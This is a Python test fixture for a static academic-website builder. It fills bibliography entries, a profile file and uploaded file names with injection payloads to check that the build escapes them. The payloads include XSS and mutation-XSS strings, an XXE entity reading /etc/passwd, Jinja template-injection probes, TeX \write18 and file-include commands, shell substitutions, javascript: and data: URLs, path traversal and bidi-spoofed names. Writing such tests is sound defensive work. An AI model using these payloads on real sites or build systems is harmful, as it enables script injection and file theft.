"""What nobody should be able to do to a reader, or to the machine that builds, with a value.

`sources()` puts every payload into every field that takes such a value: bibliography, profile, keys
and names of files. Code says its name to `window.pwn`; `SECRET` is the text of a file beside the
site that nothing may read.
"""

from __future__ import annotations

import re

SECRET = "sesame-open-4711"

#: Name → a text that some reader of it might take for more than that.
TEXTS = {
    # HTML, in content and in attributes.
    "script": "<script>pwn('script')</script>",
    "script-src": "<script src=//evil.example/x.js></script>",
    "image": "<img src=x onerror=pwn('image')>",
    "svg": "<svg onload=pwn('svg')><animate onbegin=pwn('svg') attributeName=x dur=1s>",
    "iframe": "<iframe srcdoc=\"<script>parent.pwn('iframe')</script>\"></iframe>",
    "object": "<object data=\"data:text/html,<script>pwn('object')</script>\"></object>",
    "details": "<details open ontoggle=pwn('details')>x</details>",
    "focus": "<input autofocus onfocus=pwn('focus')>",
    "base": "<base href=//evil.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "link": "<link rel=stylesheet href=//evil.example/x.css>",
    "form": "<form action=//evil.example/><button formaction=javascript:pwn('form')>b</button>",
    "quotes": "\" autofocus onfocus=pwn('quotes') x=\"' onmouseover='pwn(1)",
    "backticks": "`onmouseover=pwn('backticks')`",
    "close-title": "</title></head><body onload=pwn('close-title')>",
    "close-style": "</style><script>pwn('close-style')</script>",
    "close-textarea": "</textarea></select></option><script>pwn('close-textarea')</script>",
    "close-ld": "</script><script>pwn('close-ld')</script>",
    "comment-ld": "<!--<script>pwn('comment-ld')",
    "comment": "--><script>pwn('comment')</script><!--",
    "mxss-noscript": "<noscript><p title=\"</noscript><img src=x onerror=pwn('mxss')>\">",
    "mxss-math": "<math><mtext><table><mglyph><style><img src=x onerror=pwn('mxss')></style>",
    "mxss-svg": "<svg></p><style><a id=\"</style><img src=x onerror=pwn('mxss')>\">",
    "entities": "&lt;script&gt;pwn('entities')&lt;/script&gt; &#60;img src=x onerror=pwn(1)&#62;",
    "entities-bare": "&#x3c;img src=x onerror=pwn('entities-bare')&#x3e &lt &amp;lt; &notit;",
    "fullwidth": "\uff1cscript\uff1epwn('fullwidth')\uff1c/script\uff1e",
    "line-separators": "a\u2028pwn('separators')\u2029b\u0085c",
    # XML, JSON, CSS.
    "cdata": "]]><script>pwn('cdata')</script><![CDATA[",
    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "instruction": "<?xml-stylesheet href=//evil.example/x.xsl?><?php system('id') ?>",
    "json": '","@type":"Hacked","x":"\\"}]};pwn(\'json\')//',
    "css": "x} body{background:url(//evil.example/x)} @import '//evil.example/x.css'; a{",
    "css-url": "url(javascript:pwn('css-url')) expression(pwn(1)) </style>",
    # Languages the build itself speaks.
    "jinja": "{{ 7 * 191 }} {{ config }} {% include 'secret.txt' %} {# gone #}",
    "jinja-call": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "typst": '#read("secret.txt") #sys.version #{ 7 * 191 } $x$ @label <label> *b* _i_ \\u{41}',
    "typst-image": '#image("/etc/passwd") #eval("7 * 191") #include "secret.txt" //x /* y',
    "markdown": "[a](javascript:pwn('markdown')) ![b](//evil.example/b.png) <javascript:pwn(1)>",
    "markdown-block": "```{include} secret.txt ``` {eval-rst} # h --- :::{note} {cite}`x`",
    "rst": "`a <javascript:pwn('rst')>`_ .. include:: secret.txt |x| :raw-html:`<b>`",
    "percent": "100%s %(x)s {x} {0.__class__} $HOME $(id) `id` ${x}",
    "directions": "\u202eevil\u202c \u2066x\u2069 \u200f\u200e\u061c \u2067never closed",
    "invisible": "a\u200bb\u200cc\u200dd\ufeffe\u00adf\U000e0041g",
    "controls": "a\x01b\x08c\x0bd\x0ce\x1bf\x7fg\x9bh",
    "noncharacters": "a\ufffeb\uffffc\U0001ffffd",
    "formula": "f(x) < g(y) && h > 0 -> *p = &q; #define X(a) a##b",
}
#: TeX that means something: it stays as it is, unlike the texts.
TEX = {
    "href": r"\href{javascript:pwn('href')}{click} \url{javascript:pwn('url')}",
    "href-data": r"\href{data:text/html,<script>pwn(1)</script>}{click}",
    "input": r"\input{secret.txt} \include{secret} \write18{id} \openin5=secret.txt",
    "html": r"\html{<script>pwn('tex-html')</script>} \special{html:<img src=x onerror=pwn(1)>}",
    "math-html": r"$<img src=x onerror=pwn('math')>$ and $\text{<script>pwn('math')</script>}$",
    "math-href": r"$\href{javascript:pwn('math-href')}{x}$ $\unicode{x3c}$ $\class{a}{b}$",
    "math-style": r"$\style{background:url(//evil.example/x)}{x} \color{red;x:y}{z}$",
    "math-end": r"$</math><script>pwn('math-end')</script><math>$",
    "accents": r"\'<script> \char60 img \symbol{60}script\symbol{62}",
}
#: Addresses that may not become links.
ADDRESSES = [
    "javascript:pwn('js')",
    "JaVaScRiPt:pwn('case')",
    " javascript:pwn('space')",
    "java\tscript:pwn('tab')",
    "\x01javascript:pwn('control')",
    "javascript&colon;pwn('entity')",
    "&#106;avascript:pwn('entity')",
    "javascript%3Apwn('percent')",
    "//javascript:pwn('slashes')",
    "javascript://example.org/%0Apwn('newline')",
    "data:text/html,<script>pwn('data')</script>",
    "data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=",
    "vbscript:pwn('vb')",
    "blob:https://example.org/x",
    "file:///etc/passwd",
    "view-source:https://example.org",
    "https://user:password@evil.example/",
    "https://evil.example\\@example.org/",
    "http:///evil.example",
    "//evil.example/x",
    "\\\\evil.example\\share",
    "https://example.org/\" onmouseover=\"pwn('attribute')",
    "https://example.org/'><script>pwn('break')</script>",
    "https://example.org/)](javascript:pwn('markdown'))",
    "mailto:x@example.org?body=pwn",
]
#: Paths that lead out of the site, to a device, or nowhere.
PATHS = [
    "../secret.txt",
    "files/../../secret.txt",
    "files/../secret.txt",
    "/etc/passwd",
    "files/%2e%2e/%2e%2e/secret.txt",
    "files\\..\\..\\secret.txt",
    "C:\\Windows\\win.ini",
    "files/papers/\x00.pdf",
    "files/papers/link.pdf",
    "refs.bib",
    "conf.py",
    ".git/config",
]
#: Keys that would be other files, other addresses, or each other.
KEYS = [
    "../../escape",
    "..",
    ".",
    "/etc/passwd",
    "a/../../b",
    "%2e%2e%2fescape",
    "..\\..\\escape",
    "key\x00null",
    "CON",
    "con",
    "nul.txt",
    "COM1",
    "lpt9.bib",
    "aux",
    "index",
    "Index",
    "all",
    "search",
    "genindex",
    "404",
    "trailing.",
    "trailing..",
    "-rf",
    ".hidden",
    "_static",
    "objects.inv",
    "x.html",
    "x.json",
    "X",
    "x",
    "<script>pwn('key')</script>",
    "onmouseover=pwn('key')",
    "\u202egnp.exe",
    "\u00e4",
    "a\u0308",
    "ke\u00adyhyphen",
    "k" * 300,
]
#: Names of files that the owner was handed by somebody.
FILE_NAMES = [
    "<img src=x onerror=pwn('file')>.pdf",
    "\" onmouseover=\"pwn('file').pdf",
    "javascript:pwn('file').pdf",
    "%2e%2e%2fescape.pdf",
    "..%2f..%2fescape.pdf",
    "a\nb\tc.pdf",
    "\u202efdp.exe",
    "#fragment?query&x=y.pdf",
    "{{ 7 * 191 }}.pdf",
]


def _entry(key: str, **fields: str) -> str:
    lines = "".join(f"  {name} = {{{value}}},\n" for name, value in fields.items())
    return f"@article{{{key},\n{lines}}}\n\n"


def _texts() -> str:
    names = ["title", "journal", "abstract", "annotation", "note", "publisher", "address"]
    names += ["keywords", "shorttitle", "venue", "eventtitle", "award", "volume", "number"]
    entries = []
    for number, (name, text) in enumerate((TEXTS | TEX).items()):
        value = text if name in TEX else re.sub(r"([%$#{}&_])", r"\\\1", text)
        fields = dict.fromkeys(names, value) | {"author": f"{{{value}}} and {value}"}
        entries.append(_entry(f"text-{name}", year=str(1900 + number), **fields))
    return "".join(entries)


def _addresses() -> str:
    names = ["url", "file", "slides", "poster", "code", "video", "venueurl", "doi", "eprint"]
    values = [re.sub(r"([%#{}&_])", r"\\\1", value) for value in (*ADDRESSES, *PATHS)]
    entries = []
    for number in range(len(values)):
        fields = {name: values[(number + n) % len(values)] for n, name in enumerate(names)}
        key = f"address-{number}"
        entries.append(_entry(key, title=f"Address {number}", year="2000", **fields))
    return "".join(entries)


def _keys() -> str:
    return "".join(_entry(key, title=f"Key {n}", year="2010") for n, key in enumerate(KEYS))


#: Refused in profile.toml, by tests/unit/sources/test_profile_toml.py; bibliographies may hold it.
_REFUSED = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]")


def _toml(text: str) -> str:
    """*text*, but for what is refused there, as a string of TOML."""
    text = _REFUSED.sub("", text)
    plain = {'"': '\\"', "\\": "\\\\"}
    return f'"{"".join(plain.get(c) or (c if c.isprintable() else _code(c)) for c in text)}"'


def _code(character: str) -> str:
    return f"\\U{ord(character):08X}"


def _profile() -> str:
    lines = [
        f"name = {_toml(TEXTS['script'] + TEXTS['quotes'])}",
        f"position = {_toml(TEXTS['image'])}",
        f"email = {_toml('x (at) y ' + TEXTS['close-ld'])}",
        f"location = {_toml(TEXTS['typst'])}",
        f"focus = {_toml(TEXTS['jinja'])}",
        f"interests = [{', '.join(map(_toml, TEXTS.values()))}]",
        "[affiliation]",
        f"institution = {_toml(TEXTS['json'])}",
        f"department = {_toml(TEXTS['cdata'])}",
        f"group = {_toml(TEXTS['css'])}",
        "[links]",
        'website = "https://jane.example.org"',
    ]
    for value in map(_toml, TEXTS.values()):
        lines += [
            *("[[education]]", f"degree = {value}", f"institution = {value}", "end = 2019"),
            *("[[positions]]", f"role = {value}", f"organization = {value}"),
            *('start = "2020-07"', f"advisors = [{{ name = {value} }}]"),
            *("[[teaching]]", f"role = {value}", f"course = {value}", f"term = {value}"),
            *("[[awards]]", "year = 2018", f"title = {value}", f"note = {value}", f"by = {value}"),
        ]
    return "\n".join(lines) + "\n"


def sources() -> dict[str, str | bytes]:
    """Path → text, to put over the root `whole`."""
    links = [a for a in ADDRESSES if not re.search(r"[\s()<>]|^https?:", a)]
    note = [
        "See {{ 7 * 191 }} and {% include 'secret.txt' %}.",
        *(f"[link]({address})" for address in links),
        *(f"![picture]({address})" for address in ("javascript:pwn(1)", "data:text/html,x")),
    ]
    sections = ("card", "education", "positions", "teaching", "awards")
    profile = "".join(f"```{{profile}} {section}\n```\n\n" for section in sections)
    pages = "publications\nresearch/essay\ncv\n"
    return {
        **{f"files/{name}": b"%PDF-1.4 x\n" for name in FILE_NAMES},
        "refs.bib": _texts() + _addresses() + _keys(),
        "profile.toml": _profile(),
        "notes/text-script.md": "\n\n".join(note),
        "notes/doe2021cache.md": "",
        "research/essay.md": "# On waiting\n\nText.\n",
        "index.md": f"# Home\n\n{profile}```{{toctree}}\n{pages}```\n",
        "secret.txt": SECRET,
        "../secret.txt": SECRET,
    }
